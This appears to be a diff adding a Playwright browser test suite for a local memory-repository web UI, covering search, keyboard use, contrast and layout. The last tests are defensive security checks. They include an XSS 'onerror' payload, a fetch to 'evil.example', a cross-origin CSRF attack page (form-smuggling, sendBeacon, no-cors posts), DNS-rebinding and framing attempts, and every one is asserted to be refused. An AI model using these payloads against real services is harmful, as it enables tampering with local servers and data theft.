@@ -1,0 +1,691 @@
+"""The page in real headless Chromium: what people do with it, with a mouse and without, and what others try with it."""
+
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+import sys
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+import pytest
+
+from rawkomem.files.start import plan_start, write_start
+from rawkomem.model.clock import DAY, now
+from rawkomem.model.entry import Entry
+from rawkomem.repository import Repository
+from tests.conftest import ROOT, SHARED
+from tests.faces.web.conftest import serve, stop
+from tests.faces.web.hostile import HOSTILE
+from tests.faces.web.sample import make_sample
+
+pytestmark = pytest.mark.page
+SOON = 20_000  # milliseconds: a busy machine
+
+
+@pytest.fixture(scope="module")
+def browser():
+    """Debian's Chromium; the name evil.test leads to this machine, as a rebinding resolver would have it."""
+    sync_api = pytest.importorskip("playwright.sync_api", reason="for want of playwright: make test-page")
+    chromium = shutil.which("chromium")
+    if not chromium:
+        pytest.skip("for want of chromium: make test-page")
+    with sync_api.sync_playwright() as play:
+        opened = play.chromium.launch(executable_path=chromium, args=["--host-resolver-rules=MAP evil.test 127.0.0.1"])
+        yield opened
+        opened.close()
+
+
+class Tab:
+    """A tab that watches itself: what it asked for, what it complained about, what popped up."""
+
+    def __init__(self, browser, server, **look):
+        self.server = server
+        self.origin = f"http://127.0.0.1:{server.door.port}/"
+        self.page = browser.new_context(
+            viewport={"width": 1280, "height": 800}, reduced_motion="reduce", **look
+        ).new_page()
+        self.page.set_default_timeout(SOON)
+        self.asked: list[str] = []
+        self.complaints: list[str] = []
+        self.page.on("request", lambda request: self.asked.append(request.url))
+        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
+        self.page.on("console", lambda said: self.complaints.append(said.text) if said.type == "error" else None)
+        self.page.on("dialog", lambda dialog: (self.complaints.append(f"dialog: {dialog.message}"), dialog.dismiss()))
+
+    def open(self, view: str = ""):
+        self.page.goto(self.server.door.address)
+        self.page.wait_for_selector(".list a, .list .state")
+        if view:
+            self.go(view)
+        return self.page
+
+    def go(self, view: str) -> None:
+        self.page.evaluate("view => { location.hash = view }", view)
+
+    def focused(self) -> str:
+        return self.page.evaluate(
+            "document.activeElement.innerText || document.activeElement.getAttribute('aria-label') || ''"
+        )
+
+    def hold(self, question: str) -> list:
+        """Answers to a question wait in this list until `let_go`; it holds those that were asked for so far."""
+        held: list = []
+
+        def wait(route) -> None:
+            held.append(route)
+
+        self.page.route(f"**/api/{question}*", wait)
+        return held
+
+    def let_go(self, held: list) -> None:
+        for route in held:
+            route.continue_()
+        held.clear()
+
+    def until_asked(self, held: list) -> None:
+        for _ in range(SOON // 20):
+            if held:
+                return
+            self.page.wait_for_timeout(20)
+        raise AssertionError("nothing was asked")
+
+    def check(self) -> None:
+        assert self.complaints == []
+        assert [url for url in self.asked if not url.startswith(self.origin)] == []
+
+
+@pytest.fixture(scope="module")
+def built(tmp_path_factory):
+    return make_sample(tmp_path_factory.mktemp("sample"))
+
+
+@pytest.fixture
+def sample(built, tmp_path):
+    """A copy of the sample project: a test may write."""
+    return shutil.copytree(built, tmp_path / built.name)
+
+
+@pytest.fixture
+def tab(browser, sample):
+    server = serve(sample)
+    opened = Tab(browser, server)
+    yield opened
+    opened.check()
+    opened.page.context.close()
+    stop(server)
+
+
+def test_the_token_leaves_the_address(tab):
+    page = tab.open()
+    assert page.url == tab.origin + "#/"
+    assert not [url for url in tab.asked if tab.server.door.token in url]
+    page.reload()
+    page.wait_for_selector(".list a")
+    assert page.context.cookies() == []
+
+
+def test_search_as_you_type_and_open(tab):
+    page = tab.open()
+    page.locator("#search").press_sequentially("rounding pri", delay=15)
+    page.wait_for_selector(".list a >> text=Round prices once")
+    assert page.locator(".list a").first.inner_text().startswith("Round prices once")
+    assert page.locator(".list mark").first.inner_text().lower() == "rounding" or page.locator(".list mark").count()
+    page.locator(".list a").first.click()
+    page.wait_for_selector("h1 >> text=Round prices once, at the very end")
+    told = page.locator("article.memory").inner_text()
+    for part in (
+        "Trust",
+        "a person vouches for it",
+        "pricing.py#total",
+        "fresh",
+        "supports",
+        "History",
+        "reinforce",
+        "the auditors found",
+    ):
+        assert part in told, part
+    page.locator(".prose a").click()
+    page.wait_for_selector("h1 >> text=Floats made the invoice differ")
+
+
+def test_enter_opens_what_was_typed_not_what_was_listed(tab):
+    page = tab.open()
+    page.fill("#search", "rounding prices")
+    page.wait_for_selector(".list a >> nth=0 >> text=Round prices once")
+    page.fill("#search", "date picker without a mouse")
+    page.keyboard.press("Enter")
+    page.wait_for_selector("h1 >> text=The date picker must work without a mouse")
+    tab.go("#/graph")
+    page.wait_for_selector(".node")
+    page.fill("#search", "trigram index")
+    page.keyboard.press("Enter")
+    page.wait_for_selector("h1 >> text=Searching for a route is slow")
+
+
+def test_an_answer_that_comes_late_changes_nothing(tab):
+    page = tab.open()
+    graph = tab.hold("graph")
+    tab.go("#/graph")
+    tab.until_asked(graph)
+    tab.go("#/timeline")
+    page.wait_for_selector(".moment")
+    tab.let_go(graph)
+    page.wait_for_timeout(400)
+    assert page.locator(".moment").count() == 50 and page.locator(".canvas").count() == 0
+    page.keyboard.press("ArrowLeft")
+    assert page.locator(".tip b").inner_text() in tab.focused()
+
+
+def test_leaving_before_the_list_arrives(tab):
+    page = tab.open("#/timeline")
+    page.wait_for_selector(".moment")
+    lists = tab.hold("memories")
+    tab.go("#/memory/errors-are-problem-documents")
+    tab.until_asked(lists)
+    tab.go("#/review")
+    page.wait_for_selector(".waiting .card")
+    tab.let_go(lists)
+    page.wait_for_timeout(400)
+    assert page.locator(".waiting .card").count() == 2 and page.locator(".list, .failure").count() == 0
+
+
+def test_of_two_memories_the_last_chosen_is_shown(tab):
+    page = tab.open("#/graph")
+    page.wait_for_selector(".node")
+    lists = tab.hold("memories")
+    tab.go("#/memory/errors-are-problem-documents")
+    tab.until_asked(lists)
+    tab.go("#/memory/api-versions-are-dates")
+    page.wait_for_selector("h1 >> text=API versions are dates")
+    tab.let_go(lists)
+    page.wait_for_selector(".list a")
+    page.wait_for_timeout(400)
+    assert page.locator(".memory h1").inner_text() == "API versions are dates"
+
+
+def test_a_failure_that_comes_late_changes_nothing(tab):
+    page = tab.open()
+    graph = tab.hold("graph")
+    tab.go("#/graph")
+    tab.until_asked(graph)
+    tab.go("#/review")
+    page.wait_for_selector(".waiting .card")
+    for route in graph:
+        route.abort()
+    page.wait_for_timeout(300)
+    assert page.locator(".failure").count() == 0 and page.locator(".waiting .card").count() == 2
+    tab.complaints.clear()  # Chromium itself notes the answer that did not come
+
+
+def test_what_others_write_is_seen(tab, sample):
+    page = tab.open()
+    repository = Repository.open(str(sample))
+    number = int(page.locator(".home .big").inner_text())
+    assert number == page.locator(".list a").count()
+    assert "Not in use: 1 superseded, 2 quarantined." in page.locator(".home").inner_text()
+
+    repository.add(Entry(title="Written meanwhile", body="By another.", kind="reflection", tags=("meanwhile",)))
+    page.evaluate("document.dispatchEvent(new Event('visibilitychange'))")
+    page.wait_for_selector(".list a >> text=Written meanwhile")
+    page.wait_for_function(
+        "number => document.querySelector('.home .big').innerText === String(number)", arg=number + 1
+    )
+    page.wait_for_selector("[data-filter=tag] option[value=meanwhile]", state="attached")
+
+    repository.quarantine("written-meanwhile", "to be looked at")
+    tab.go("#/timeline")
+    page.wait_for_function("() => document.querySelector('#waiting').innerText === '3'")
+    repository.close()
+
+
+def test_filters(tab):
+    page = tab.open()
+    page.select_option("[data-filter=kind]", "skill")
+    page.wait_for_function("() => document.querySelectorAll('.list a').length === 4")
+    page.select_option("[data-filter=importance]", "high")
+    page.wait_for_function("() => document.querySelectorAll('.list a').length === 2")
+    page.get_by_role("button", name="Clear").click()
+    page.wait_for_function("() => document.querySelectorAll('.list a').length > 40")
+    page.select_option("[data-filter=status]", "superseded")
+    page.wait_for_selector(".list a >> text=Deploys go out before ten")
+    page.locator(".list a").click()
+    page.wait_for_selector(".notice >> text=superseded by")
+    page.select_option("[data-filter=status]", "")
+    page.select_option("[data-filter=tag]", "weather")
+    page.select_option("[data-filter=type]", "correction")
+    page.wait_for_selector(".list >> text=Nothing found")
+
+
+def test_why_and_why_not(tab):
+    page = tab.open("#/memory/round-prices-once-at-the-very-end")
+    page.wait_for_selector("#task")
+    page.fill("#task", "fix the rounding of the price")
+    page.wait_for_selector(".verdict .yes")
+    assert page.locator(".factors li").count() >= 2
+    page.fill("#task", "water the flowers in the office")
+    page.wait_for_selector(".verdict .no")
+    tab.go("#/memory/errors-are-problem-documents")
+    page.wait_for_selector("h1 >> text=Errors are problem documents")
+    assert page.input_value("#task") == "water the flowers in the office"
+
+
+def test_feedback(tab, sample):
+    page = tab.open("#/memory/round-prices-once-at-the-very-end")
+    page.locator("[data-vote=helpful]").click()
+    page.wait_for_selector("[data-vote=helpful] b >> text=4")
+    page.locator("[data-vote=harmful]").click()
+    page.wait_for_selector("[data-vote=harmful] b >> text=1")
+    memory = Repository.open(str(sample)).get("round-prices-once-at-the-very-end")
+    assert (memory.helpful, memory.harmful) == (4, 1)
+
+
+def test_a_double_click_votes_once(tab, sample):
+    page = tab.open("#/memory/round-prices-once-at-the-very-end")
+    votes = tab.hold("feedback")
+    page.locator("[data-vote=helpful]").dblclick()
+    page.locator("[data-vote=harmful]").click(force=True)
+    tab.until_asked(votes)
+    assert len(votes) == 1
+    tab.let_go(votes)
+    page.wait_for_selector("[data-vote=helpful] b >> text=4")
+    assert page.locator("[data-vote=helpful]").is_enabled() and "Helpful" in tab.focused()
+    memory = Repository.open(str(sample)).get("round-prices-once-at-the-very-end")
+    assert (memory.helpful, memory.harmful) == (4, 0)
+
+
+def test_a_contradiction_in_use_is_told_as_such_and_settled(tab, sample):
+    repository = Repository.open(str(sample))
+    claim = {"subject": "dog", "predicate": "fare", "value": "none", "exclusive": "true"}
+    repository.add(Entry(title="Dogs travel free", extra={"claim": claim}), via="person")
+    rival = Entry(title="Dogs pay half", extra={"claim": {**claim, "value": "half"}})
+    repository.add(rival, on_conflict="keep_active", via="agent")
+    page = tab.open("#/review")
+    page.wait_for_selector(".waiting .card")
+    told = page.locator(".card", has_text="Dogs pay half")
+    assert "In use, though contradicted" in told.inner_text()
+    assert "Held back" in page.locator(".card", has_text="The harbour API").inner_text()
+    assert told.locator("option").all_inner_texts() == ["It takes the other's place", "Keep both"]
+    told.get_by_label("What becomes of the other?").select_option("keep_both")
+    told.get_by_role("button", name="Settle").click()
+    page.wait_for_selector("#toast.shown >> text=Settled: both stay in use.")
+    page.wait_for_function("() => document.querySelectorAll('.waiting .card').length === 2")
+    assert [repository.get(name).status for name in ("dogs-travel-free", "dogs-pay-half")] == ["active", "active"]
+    repository.close()
+
+
+def test_review(tab, sample):
+    page = tab.open("#/review")
+    page.wait_for_selector(".waiting .card")
+    assert page.locator(".waiting .card").count() == 2 and page.locator("#waiting").inner_text() == "2"
+    card = page.locator(".card", has_text="Seats are held for thirty minutes")
+    assert "Seats are held for fifteen minutes" in card.inner_text()
+    card.get_by_label("Reason").fill("seen in the app")
+    card.get_by_label("What becomes of the other?").select_option("supersede")
+    card.get_by_role("button", name="Activate").click()
+    page.wait_for_function("() => document.querySelectorAll('.waiting .card').length === 1")
+    page.get_by_role("button", name="Reject").click()
+    page.wait_for_selector("text=Nothing waits for you")
+    assert page.locator("#waiting").is_hidden()
+    repository = Repository.open(str(sample))
+    activated = repository.get("seats-are-held-for-thirty-minutes")
+    assert (activated.status, repository.get("seats-are-held-for-fifteen-minutes").status) == ("active", "superseded")
+    assert repository.trust_parts(activated).standing.verified
+    assert repository.get("the-harbour-api-allows-ten-calls-a-second").status == "archived"
+
+
+def test_graph(tab):
+    page = tab.open("#/graph")
+    page.wait_for_selector(".node")
+    assert page.locator(".node").count() == 47
+    apart = page.evaluate("""() => {
+        const at = [...document.querySelectorAll('.node')].map(node => node.getBoundingClientRect()).map(box => [box.x + box.width / 2, box.y + box.height / 2]);
+        return Math.min(...at.flatMap((one, i) => at.slice(i + 1).map(other => Math.hypot(one[0] - other[0], one[1] - other[1]))));
+    }""")
+    assert apart > 10  # no memory lies upon another
+    inside = page.evaluate(
+        "[...document.querySelectorAll('.node')].every(node => { const box = node.getBoundingClientRect(); return box.x >= 0 && box.y >= 0 && box.right <= innerWidth && box.bottom <= innerHeight; })"
+    )
+    assert inside
+    page.locator(".node[aria-label='The outage of midsummer'] circle").last.click()
+    page.wait_for_selector(".node-card >> text=connected with 3 memories")
+    page.locator(".node-card .button").click()
+    page.wait_for_selector("h1 >> text=The outage of midsummer")
+
+
+def test_timeline(tab):
+    page = tab.open("#/timeline")
+    page.wait_for_selector(".moment")
+    assert page.locator(".moment").count() == 50 == page.locator(".journal li").count()
+    page.get_by_role("button", name="Month").click()
+    page.wait_for_function("() => document.querySelectorAll('.moment').length < 10")
+    page.locator(".moment").first.hover()
+    page.wait_for_selector(".tip:not([hidden])")
+    title = page.locator(".tip b").inner_text()
+    page.locator(".moment").first.click()
+    page.wait_for_selector("h1")
+    page.wait_for_function("title => document.querySelector('h1').innerText === title", arg=title)
+
+
+def test_a_timeline_of_very_many_is_drawn_soon(tab):
+    """As many as the server tells one by one, all found within an hour, and thousands before them."""
+    today = now()
+    item = {"kind": "memory", "status": "active", "importance": "high", "updated": today, "by": ""}
+    items = [{**item, "id": f"m{n}", "title": f"Memory {n}", "created": today - n * 2_000} for n in range(1_500)]
+    older = [[today - days * DAY, 20] for days in range(400, 2, -1)]
+    page = tab.open()
+    answer = {"total": 9_460, "undated": 7, "items": items, "older": older}
+    page.route("**/api/timeline", lambda route: route.fulfill(json=answer))
+    tab.go("#/timeline")
+    page.wait_for_selector(".moment")
+    assert page.locator(".moment").count() == 1_500 and page.locator(".journal li").count() == 400
+    assert page.locator(".time .lead").first.inner_text().startswith("9,460 memories; the latest 1,500 as dots")
+    assert "9,060 older memories" in page.locator(".journal").inner_text()
+    inside = page.evaluate(
+        "() => { const card = document.querySelector('.swarm').getBoundingClientRect(); return [...document.querySelectorAll('.moment')].every(dot => { const box = dot.getBoundingClientRect(); return box.top >= card.top && box.bottom <= card.bottom; }); }"
+    )
+    assert inside
+
+
+def test_with_the_keyboard_alone(tab, sample):
+    """From the search to a vote, a verdict and a review, without a pointer."""
+    page = tab.open()
+    press = page.keyboard.press
+    press("/")
+    page.keyboard.type("rounding prices")
+    page.wait_for_selector(".list a mark")
+    press("ArrowDown")
+    assert tab.focused().startswith("Round prices once")
+    press("j")
+    assert tab.focused().startswith("Floats made the invoice")
+    press("k")
+    press("Enter")
+    page.wait_for_function("() => document.activeElement.tagName === 'H1'")
+    press("w")
+    page.keyboard.type("rounding of prices")
+    press("Enter")
+    page.wait_for_selector(".verdict .yes")
+    press("Escape")
+    assert page.evaluate("document.activeElement.tagName") != "INPUT"
+    page.locator("h1").focus()
+    for _ in range(30):
+        press("Tab")
+        if "Helpful" in tab.focused():
+            break
+    shown = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
+    assert shown != "none"  # one sees where one is
+    press("Enter")
+    page.wait_for_selector("[data-vote=helpful] b >> text=4")
+    press("j")
+    page.wait_for_selector("h1 >> text=Floats made the invoice")
+    press("Escape")
+    page.wait_for_selector(".home")
+    assert tab.focused().startswith("Floats made the invoice")
+    press("2")
+    page.wait_for_selector(".node")
+    press("ArrowRight")
+    press("ArrowRight")
+    title = tab.focused()
+    press("Enter")
+    page.wait_for_function("title => document.querySelector('h1')?.innerText === title", arg=title)
+    press("3")
+    page.wait_for_selector(".moment")
+    press("ArrowLeft")
+    press("ArrowLeft")
+    assert page.locator(".tip b").inner_text() in tab.focused()
+    press("4")
+    page.wait_for_selector(".waiting .card")
+    press("j")
+    waiting = tab.focused()
+    press("Tab")
+    page.keyboard.type("read it, it is so")
+    while tab.focused() != "Activate":
+        press("Tab")
+    press("Enter")
+    page.wait_for_function("() => document.querySelectorAll('.waiting .card').length === 1")
+    press("?")
+    page.wait_for_selector("dialog[open]")
+    press("Escape")
+    assert page.locator("dialog[open]").count() == 0
+    repository = Repository.open(str(sample))
+    (activated,) = [row for row in repository.list() if row.title == waiting]
+    assert repository.get(activated.id).status == "active"
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_every_text_can_be_read(browser, sample, scheme):
+    """WCAG AA: at least 4.5 to 1 between each text and what lies behind it."""
+    server = serve(sample)
+    tab = Tab(browser, server, color_scheme=scheme)
+    page = tab.open("#/memory/round-prices-once-at-the-very-end")
+    page.wait_for_selector(".prose")
+    poor = page.evaluate(CONTRAST)
+    tab.go("#/review")
+    page.wait_for_selector(".waiting .card")
+    poor += page.evaluate(CONTRAST)
+    for view, part in (("#/", ".home"), ("#/timeline", ".journal li"), ("#/memory/nothing-of-that-name", ".failure")):
+        tab.go(view)
+        page.wait_for_selector(part)
+        poor += page.evaluate(CONTRAST)
+    tab.complaints = [line for line in tab.complaints if "404" not in line]  # Chromium itself notes it
+    tab.check()
+    page.context.close()
+    stop(server)
+    assert poor == []
+
+
+CONTRAST = """() => {
+    const numbers = (colour) => colour.match(/[\\d.]+/g).map(Number);
+    const light = (colour) => { const [r, g, b] = numbers(colour).map((n) => (n /= 255) <= 0.03928 ? n / 12.92 : ((n + 0.055) / 1.055) ** 2.4); return 0.2126 * r + 0.7152 * g + 0.0722 * b; };
+    const behind = (node) => { for (; node; node = node.parentElement) { const found = getComputedStyle(node).backgroundColor; if ((numbers(found)[3] ?? 1) > 0.9) return found; } return 'rgb(255,255,255)'; };
+    const poor = [];
+    for (const node of document.querySelectorAll('body *')) {
+        if (![...node.childNodes].some((child) => child.nodeType === 3 && child.data.trim()) || !node.checkVisibility() || node.closest('#toast, dialog, svg, option, .skip')) continue;
+        const [one, other] = [light(getComputedStyle(node).color), light(behind(node))].sort((a, b) => b - a);
+        if ((one + 0.05) / (other + 0.05) < 4.5) poor.push(`${node.tagName}.${node.className}: ${node.textContent.slice(0, 30)} ${((one + 0.05) / (other + 0.05)).toFixed(2)}`);
+    }
+    return poor;
+}"""
+
+
+def test_on_a_phone_nothing_runs_over_the_edge(browser, sample):
+    server = serve(sample)
+    tab = Tab(browser, server)
+    tab.page.set_viewport_size({"width": 360, "height": 740})
+    for view in ("", "#/memory/round-prices-once-at-the-very-end", "#/timeline", "#/review", "#/graph"):
+        tab.open(view) if not view else tab.go(view)
+        tab.page.wait_for_timeout(400)
+        assert tab.page.evaluate("document.documentElement.scrollWidth <= innerWidth"), view
+    shown = tab.page.evaluate("""() => {
+        const boxes = (what) => [...document.querySelectorAll(what)].map(element => element.getBoundingClientRect());
+        const nodes = boxes('.node'), labels = boxes('.label:not(.hidden)');
+        const all = [...nodes, ...labels];
+        return {
+            inside: all.every(box => box.left >= 0 && box.right <= innerWidth && box.top >= 0 && box.bottom <= innerHeight),
+            labels: labels.length,
+            wide: Math.max(...nodes.map(box => box.right)) - Math.min(...nodes.map(box => box.left)),
+        };
+    }""")
+    assert shown["inside"] and shown["labels"] >= 5 and shown["wide"] > 240  # the graph fills a narrow window, too
+    tab.go("#/memory/round-prices-once-at-the-very-end")
+    tab.page.get_by_role("button", name="← All memories").click()
+    tab.page.wait_for_selector(".list a")
+    tab.check()
+    stop(server)
+
+
+def test_an_empty_repository_says_how_to_start(browser, tmp_path):
+    write_start(plan_start(str(tmp_path)))
+    server = serve(tmp_path)
+    tab = Tab(browser, server)
+    page = tab.open()
+    page.wait_for_selector("text=No memories yet")
+    for view, told in (
+        ("graph", "Nothing to draw yet"),
+        ("timeline", "No dates yet"),
+        ("review", "Nothing waits for you"),
+    ):
+        tab.go(f"#/{view}")
+        page.wait_for_selector(f"text={told}")
+    tab.check()
+    stop(server)
+
+
+def test_errors_are_told(tab):
+    page = tab.open("#/memory/nothing-of-that-name")
+    page.wait_for_selector(".failure >> text=no memory")
+    page.evaluate("sessionStorage.setItem('rawkomem-token', 'wrong')")
+    page.reload()
+    page.wait_for_selector("text=This tab has no key")
+    tab.complaints.clear()  # Chromium itself notes each 404 and 401
+
+
+def test_a_server_that_stopped_is_told(browser, sample):
+    env = {**os.environ, "PYTHONPATH": str(ROOT)}
+    command = [sys.executable, "-m", "rawkomem", "browse", "--no-open"]
+    with subprocess.Popen(command, cwd=sample, env=env, stdout=subprocess.PIPE, text=True) as process:
+        page = browser.new_page()
+        page.goto(process.stdout.readline().strip())
+        page.wait_for_selector(".list a")
+        page.keyboard.press("4")
+        page.wait_for_selector(".notice >> text=A program started this page")
+        page.keyboard.press("1")
+        page.wait_for_selector(".list a")
+        process.terminate()
+        process.wait(20)
+        page.fill("#search", "prices")
+        page.wait_for_selector("text=The server does not answer", timeout=SOON)
+        page.close()
+
+
+def hostile_project(folder):
+    """Every hostile text as body, title, tag, condition and finder; and the odd files, where they are at hand."""
+    write_start(plan_start(str(folder)))
+    memories = folder / ".rawko" / "memories"
+    for number, text in enumerate(HOSTILE):
+        one_line = text.replace("\\", "").replace('"', "'").replace("\n", " ").replace("\t", " ")[:200]
+        fields = f'title: "{one_line}"\nwhenToUse: ["{one_line}"]\ntags: ["{one_line[:60]}"]\ndiscoveredBy: "{one_line[:60]}"\n'
+        dated = f"{fields}discoveredAt: 2026-01-{number % 28 + 1:02d}\nrelatedMemories: [hostile-{(number + 1) % len(HOSTILE)}]\n"
+        (memories / f"hostile-{number}.md").write_text(f"---\n{dated}---\n\n{text}\n", encoding="utf-8")
+    for odd in sorted((SHARED / "data" / "odd_md").glob("*.md")):
+        shutil.copy(odd, memories / odd.name)
+    return folder
+
+
+def test_nothing_that_memories_say_runs_or_leaves(browser, tmp_path):
+    server = serve(hostile_project(tmp_path))
+    tab = Tab(browser, server)
+    page = tab.open()
+    ids = [row.id for row in Repository.open(str(tmp_path)).list()]
+    assert len(ids) >= len(HOSTILE)
+    for id in ids:
+        tab.go(f"#/memory/{id.replace('#', '%23')}")
+        page.wait_for_function("id => document.querySelector('.place')?.innerText.includes(id)", arg=id)
+        assert page.evaluate(
+            "[...document.querySelectorAll('.prose *')].every(e => !/^(SCRIPT|IMG|IFRAME|STYLE|FORM|SVG|LINK|META|BASE|OBJECT)$/i.test(e.tagName))"
+        )
+        for link in page.locator(".prose a[href^='#']").all():
+            assert link.get_attribute("href").startswith("#/memory/")
+    for view in ("graph", "timeline", "review", ""):
+        tab.go(f"#/{view}")
+        page.wait_for_timeout(500)
+    page.fill("#search", HOSTILE[1])
+    page.wait_for_timeout(500)
+    assert page.evaluate("window.hacked") is None
+    tab.check()
+    stop(server)
+
+
+def test_even_markup_that_got_through_would_not_run(tab):
+    """The policy of the page, not only the cleaning of Markdown, keeps scripts out."""
+    page = tab.open()
+    said = page.evaluate("""() => {
+        const element = document.createElement('div');
+        try { element.innerHTML = '<img src=x onerror="window.hacked=1">'; } catch (error) { return error.name; }
+        document.body.append(element);
+        return 'put';
+    }""")
+    assert said == "TypeError"  # trusted types
+    page.evaluate(
+        "const s = document.createElement('script'); try { s.text = 'window.hacked = 1'; document.body.append(s); } catch {}"
+    )
+    assert page.evaluate("fetch('https://evil.example/').then(() => 'sent', () => 'refused')") == "refused"
+    assert page.evaluate("window.hacked") is None
+    assert any("Content Security Policy" in line for line in tab.complaints)
+    tab.complaints.clear()
+    tab.asked.clear()
+
+
+ATTACK = """<!doctype html><body><script>
+const target = location.hash.slice(1), id = 'round-prices-once-at-the-very-end';
+const body = JSON.stringify({ id, signal: 'harmful' });
+const tries = [
+  () => fetch(target + 'api/feedback', { method: 'POST', mode: 'no-cors', body }),
+  () => fetch(target + 'api/feedback', { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'Content-Type': 'text/plain' }, body }),
+  () => fetch(target + 'api/feedback', { method: 'POST', headers: { 'Content-Type': 'application/json', 'X-Rawkomem': '1' }, body }),
+  () => fetch(target + 'api/overview').then((answer) => answer.text()),
+  () => navigator.sendBeacon(target + 'api/feedback', body),
+  () => new Promise((done) => { const frame = document.createElement('iframe'); frame.name = 'f'; frame.onload = done; document.body.append(frame);
+    const form = document.createElement('form'); form.method = 'post'; form.enctype = 'text/plain'; form.action = target + 'api/feedback'; form.target = 'f';
+    const field = document.createElement('input'); field.name = body.slice(0, -1) + ', "x": "'; field.value = '"}'; form.append(field); document.body.append(form); form.submit(); }),
+  () => new Promise((done) => { const s = document.createElement('script'); s.src = target + 'api.js'; s.onload = () => done('loaded'); s.onerror = () => done('refused'); document.body.append(s); }),
+];
+(async () => { const found = []; for (const attempt of tries) { try { found.push(String(await attempt())); } catch (error) { found.push('refused'); } } document.title = found.join('|'); })();
+</script></body>"""
+
+
+@pytest.fixture
+def elsewhere():
+    """Another site: a page on another port of this machine that attacks the one it is told."""
+
+    class Attacker(BaseHTTPRequestHandler):
+        def do_GET(self):
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.end_headers()
+            self.wfile.write(ATTACK.encode())
+
+        def log_message(self, *_):
+            pass
+
+    site = ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
+    threading.Thread(target=site.serve_forever, daemon=True).start()
+    yield f":{site.server_address[1]}/"
+    site.shutdown()
+    site.server_close()
+
+
+@pytest.mark.parametrize("host", ["127.0.0.1", "evil.test"])
+def test_another_page_in_the_same_browser_changes_and_learns_nothing(tab, elsewhere, sample, host):
+    tab.open()  # the victim has the page open, in the same browser
+    before = {path: path.read_bytes() for path in (sample / ".rawko").rglob("*.md")}
+    other = tab.page.context.new_page()
+    other.goto(f"http://{host}{elsewhere}#{tab.origin}")
+    other.wait_for_function("() => document.title !== ''", timeout=SOON)
+    assert "northwind" not in other.title()
+    assert other.title().endswith("refused")
+    assert {path: path.read_bytes() for path in (sample / ".rawko").rglob("*.md")} == before
+
+
+def test_a_name_that_was_rebound_to_this_machine_is_misdirected(tab):
+    tab.open()
+    other = tab.page.context.new_page()
+    answer = other.goto(f"http://evil.test:{tab.server.door.port}/")
+    assert answer.status == 421
+    said = other.evaluate(
+        "token => fetch('/api/overview', { headers: { Authorization: 'Bearer ' + token } }).then(a => a.status, () => 0)",
+        tab.server.door.token,
+    )
+    assert said in (0, 421)
+
+
+def test_nobody_can_frame_it(tab, elsewhere):
+    tab.open()
+    other = tab.page.context.new_page()
+    other.goto(f"http://127.0.0.1{elsewhere}#http://127.0.0.1:1/")
+    other.evaluate(
+        "address => new Promise(done => { const f = document.createElement('iframe'); f.src = address; f.onload = done; document.body.append(f); })",
+        tab.origin,
+    )
+    assert not any(frame.url.startswith(tab.origin) and frame.query_selector("header.top") for frame in other.frames)
